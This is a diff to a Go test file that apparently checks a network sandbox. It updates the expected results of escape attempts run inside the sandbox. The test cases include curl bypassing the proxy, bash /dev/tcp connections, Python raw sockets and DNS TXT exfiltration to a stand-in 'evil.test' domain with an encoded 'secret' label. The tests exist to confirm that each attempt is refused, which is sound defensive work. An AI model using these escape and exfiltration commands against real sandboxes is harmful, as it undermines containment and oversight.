@@ -67,10 +67,14 @@ s = socket.socket(fam, kind)
 s.settimeout(5)
 try:
     if kind == socket.SOCK_STREAM:
+        # The capture takes the connection; the proxy refuses it (the
+        # world's echo server would send ESCAPED back).
         s.connect((sys.argv[3], int(sys.argv[4])))
+        s.sendall(b"ESCAPED\n")
+        print("closed", s.recv(100))
     else:
         s.sendto(b"exfil", (sys.argv[3], int(sys.argv[4])))
-    print("ESCAPED")
+        print("ESCAPED")
 except OSError as e:
     print("refused", e.errno)
 `
@@ -104,12 +108,12 @@ except OSError as e:
 		argv []string
 		want string // stdout must contain
 	}{
-		{"curl noproxy tcp", []string{"sh", "-c", "curl -sS --noproxy '*' --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "code=7"},
-		{"bash dev tcp", []string{"bash", "-c", "echo x > /dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED || echo refused"}, "refused"},
-		{"python tcp", []string{"python3", "-c", pyConnect, "4", "tcp", webAddr, udpEchoPort}, "refused 101"},
-		{"python udp", []string{"python3", "-c", pyConnect, "4", "udp", webAddr, udpEchoPort}, "refused 101"},
-		{"ipv6 curl", []string{"sh", "-c", "curl -sS -g --noproxy '*' --max-time 5 'http://[" + web6Addr + "]/' ; echo code=$?"}, "code=7"},
-		{"ipv6 python", []string{"python3", "-c", pyConnect, "6", "tcp", web6Addr, "80"}, "refused 101"},
+		{"curl noproxy tcp", []string{"sh", "-c", "curl -sS --noproxy '*' --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
+		{"bash dev tcp", []string{"bash", "-c", "exec 3<>/dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED >&3 && timeout 10 cat <&3; echo closed"}, "closed"},
+		{"python tcp", []string{"python3", "-c", pyConnect, "4", "tcp", webAddr, udpEchoPort}, "closed b''"},
+		{"python udp", []string{"python3", "-c", pyConnect, "4", "udp", webAddr, udpEchoPort}, "refused 1\n"},
+		{"ipv6 curl", []string{"sh", "-c", "curl -sS -g --noproxy '*' --max-time 5 'http://[" + web6Addr + "]/' ; echo code=$?"}, "not in allowlist: " + web6Addr + "\ncode=0"},
+		{"ipv6 python", []string{"python3", "-c", pyConnect, "6", "tcp", web6Addr, "80"}, "closed b''"},
 		{"dns direct to the world resolver", []string{"sh", "-c", "dig +tries=1 +time=2 @" + dnsAddr + " direct.denied.test A; echo code=$?"}, "code=9"},
 		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
 		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
@@ -117,7 +121,7 @@ except OSError as e:
 		{"allowed name resolving to loopback", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://rebind.test/"}, "403"},
 		{"allowed name resolving to the host's own address", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://hostaddr.test/"}, "403"},
 		{"connect with a fronted SNI", []string{"python3", "-c", pyFronted}, "refused"},
-		{"script written to disk", []string{"sh", "-c", "printf '#!/bin/sh\\ncurl -sS --noproxy \"*\" --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/\\n' > ./x.sh && chmod +x x.sh && ./x.sh; echo code=$?"}, "code=7"},
+		{"script written to disk", []string{"sh", "-c", "printf '#!/bin/sh\\ncurl -sS --noproxy \"*\" --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/\\n' > ./x.sh && chmod +x x.sh && ./x.sh; echo code=$?"}, "not in allowlist: " + webAddr + "\ncode=0"},
 		{"host unix sockets", []string{"python3", "-c", pyUnix}, "pathname refused 1\nabstract refused 1\n"},
 	}
 	for _, u := range users {
